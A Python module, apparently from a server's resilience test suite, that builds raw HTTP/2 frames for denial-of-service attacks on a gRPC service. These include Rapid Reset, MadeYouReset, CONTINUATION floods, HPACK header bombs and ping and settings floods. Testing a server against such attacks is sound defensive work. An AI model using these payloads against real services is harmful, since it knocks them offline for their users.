"""Attacks that are frames of HTTP/2, sent as fast as they go."""

import itertools
import struct

from support import raw_h2
from support.attack import CHECK, MAX_CALLS, OPEN_WINDOW, STREAM, WATCH, WRITE, Attack, calls, \
    repeated, streams
from support.raw_h2 import frame

CANCEL = struct.pack("!I", raw_h2.CANCEL)
CALL_FIELDS = ((":method", "POST"), (":scheme", "http"), (":path", CHECK), (":authority", "test"))
LONG_NAME_BYTES = 8000
# Just below what a call's headers may have.
METADATA_BYTES = 15000


def half_requests(_):
    """Calls whose messages never become complete, from so many streams as there may be."""
    yield b"".join(raw_h2.grpc_headers(2 * i + 1, WRITE) +
                   frame(raw_h2.DATA, stream=2 * i + 1, payload=struct.pack("!BI", 0, 4 << 20))
                   for i in range(MAX_CALLS))
    for _ in range(60):
        for i in range(MAX_CALLS):
            yield frame(raw_h2.DATA, stream=2 * i + 1, payload=bytes(16384))


def header_bomb(stream):
    """One field of 4,000 bytes enters the table, and is then named by one byte again and again."""
    field = b"\x40" + bytes([1]) + b"x" + b"\x7f" + bytes([0xa1, 0x1e]) + b"v" * 4000
    return frame(raw_h2.HEADERS, raw_h2.END_HEADERS, stream,
                 raw_h2.header_block(*CALL_FIELDS) + field + b"\xbe" * 12000)


def trailer_bomb(stream):
    """A call whose trailers have one name of 4,000 letters again and again."""
    name = b"\x40\x7f" + bytes([0xa1, 0x1e]) + b"n" * 4000 + b"\0"
    return (raw_h2.grpc_headers(stream, CHECK) +
            frame(raw_h2.HEADERS, raw_h2.END_HEADERS | raw_h2.END_STREAM, stream, name + b"\xbe" * 12000))


def large_headers(stream):
    """Forty fields of 4,000 bytes for a byte each: a little less than what ends the connection."""
    value = b"\x40" + bytes([1]) + b"x" + b"\x7f" + bytes([0xa1, 0x1e]) + b"v" * 4000
    return frame(raw_h2.HEADERS, raw_h2.END_HEADERS, stream, raw_h2.header_block(*CALL_FIELDS) +
                 (value if stream == 1 else b"\xbe") + b"\xbe" * 38)


def table_churn(stream):
    """The table is emptied, made large again and filled, at each call."""
    size_updates = b"\x20" + b"\x3f\xe1\x1f"
    field = b"\x40" + bytes([1]) + b"x" + b"\x7f" + bytes([0xa1, 0x1e]) + b"v" * 4000
    return (frame(raw_h2.HEADERS, raw_h2.END_HEADERS, stream, size_updates +
                  raw_h2.header_block(*raw_h2.grpc_fields(CHECK)) + field) +
            frame(raw_h2.DATA, raw_h2.END_STREAM, stream, raw_h2.grpc_message(b"")))


def continuations(_):
    """CVE-2024-28182"""
    yield frame(raw_h2.HEADERS, 0, 1, raw_h2.header_block((":method", "POST")))
    yield from repeated(frame(raw_h2.CONTINUATION, 0, 1, raw_h2.header_block(("a", "b"))))(_)


def after_headers(one, method=STREAM):
    """`one` again and again on a call that is open."""
    return lambda peer: itertools.chain([raw_h2.grpc_headers(1, method)], repeated(one)(peer))


def trailers(stream):
    """A call whose message is followed by headers of its own, as many as there may be."""
    return (raw_h2.grpc_headers(stream, CHECK) +
            frame(raw_h2.DATA, stream=stream, payload=raw_h2.grpc_message(b"")) +
            frame(raw_h2.HEADERS, raw_h2.END_HEADERS | raw_h2.END_STREAM, stream,
                  raw_h2.header_block(*((f"t{i}", "v" * 150) for i in range(90)))))


def window_churn(_):
    """Each change of the first window touches all calls that are open."""
    yield b"".join(raw_h2.grpc_headers(2 * i + 1, STREAM) for i in range(MAX_CALLS))
    change = b"".join(frame(raw_h2.SETTINGS, payload=raw_h2.setting(raw_h2.INITIAL_WINDOW_SIZE, size))
                      for size in (0, 65535))
    yield from repeated(change)(_)


def priorities(_):
    """Streams that aren't there, each depending on another."""
    for first in itertools.count(1, 2000):
        yield b"".join(frame(raw_h2.PRIORITY, stream=stream,
                             payload=struct.pack("!IB", max(stream - 2, 1) if stream > 1 else 3, 255))
                       for stream in range(first, first + 2000, 2))


def checked(*headers):
    """A call of the open method with more headers."""
    return lambda stream: raw_h2.grpc_call(stream, CHECK, b"", *headers)


def half_headers(_):
    yield frame(raw_h2.HEADERS, 0, 1, raw_h2.header_block(
        *raw_h2.grpc_fields(WRITE), *((f"k{i}", "v" * 3900) for i in range(4))))


def no_method(stream):
    return raw_h2.grpc_call(stream, f"/{stream}{'x' * LONG_NAME_BYTES}/None", b"")


def bad_token(stream):
    """Each of another principal, if it were one."""
    return raw_h2.grpc_call(stream, WRITE, b"", ("authorization", f"Bearer {stream:064}"))


def flood(one, **more):
    return Attack(repeated(one), **more)


def reset(one):
    return lambda stream: one(stream) + frame(raw_h2.RST_STREAM, stream=stream, payload=CANCEL)


ATTACKS = {
    # CVE-2023-44487
    "rapid_reset": Attack(streams(reset(lambda stream: raw_h2.grpc_headers(stream, CHECK)))),
    # CVE-2025-8671: the server is made to reset streams, whose work would go on.
    "made_you_reset": Attack(streams(lambda stream: raw_h2.grpc_headers(stream, CHECK) + frame(
        raw_h2.WINDOW_UPDATE, stream=stream, payload=bytes(4)))),
    "half_requests": Attack(half_requests, keeps_rules=True),
    "header_bomb": Attack(streams(header_bomb)),
    "trailer_bomb": Attack(streams(trailer_bomb)),
    "large_headers": Attack(streams(reset(large_headers)), keeps_rules=True),
    "table_churn": Attack(calls(table_churn), window=OPEN_WINDOW, keeps_rules=True),
    "continuations": Attack(continuations),
    "trailers": Attack(calls(trailers), window=OPEN_WINDOW, keeps_rules=True),
    # A message byte by byte.
    "dribble": Attack(lambda peer: itertools.chain(
        [raw_h2.grpc_headers(1, STREAM), frame(raw_h2.DATA, stream=1, payload=struct.pack("!BI", 0, 4 << 20))],
        repeated(frame(raw_h2.DATA, stream=1, payload=b"x"))(peer))),
    "empty_data": Attack(after_headers(frame(raw_h2.DATA, stream=1))),
    "padding": Attack(after_headers(frame(raw_h2.DATA, raw_h2.PADDED, 1, b"\xff" + bytes(255))),
                      keeps_rules=True),
    # Many calls whose answers are never taken.
    "shut_windows": Attack(streams(lambda stream: raw_h2.grpc_call(stream, WATCH, b"")), window=0,
                           keeps_rules=True),
    "garbage": Attack(repeated(bytes(range(256)))),
    "pings": flood(frame(raw_h2.PING, payload=bytes(8))),
    "unread_pings": flood(frame(raw_h2.PING, payload=bytes(8)), is_reading=False, keeps_rules=True),
    "settings": flood(frame(raw_h2.SETTINGS, payload=raw_h2.setting(3, 100))),
    "window_churn": Attack(window_churn),
    "window_updates": flood(raw_h2.window_update(0, 1)),
    "same_priority": flood(frame(raw_h2.PRIORITY, stream=3, payload=bytes(5))),
    "priorities": Attack(priorities),
    "unknown_frames": flood(frame(0xBE)),
    "unknown_methods": Attack(calls(no_method), window=OPEN_WINDOW, keeps_rules=True),
    "binary_metadata": Attack(calls(checked(("x-bin", "A" * METADATA_BYTES))), window=OPEN_WINDOW,
                              keeps_rules=True),
    "bad_tokens": Attack(calls(bad_token), window=OPEN_WINDOW, keeps_rules=True),
    "half_headers": Attack(half_headers, connections=200, keeps_rules=True),
}
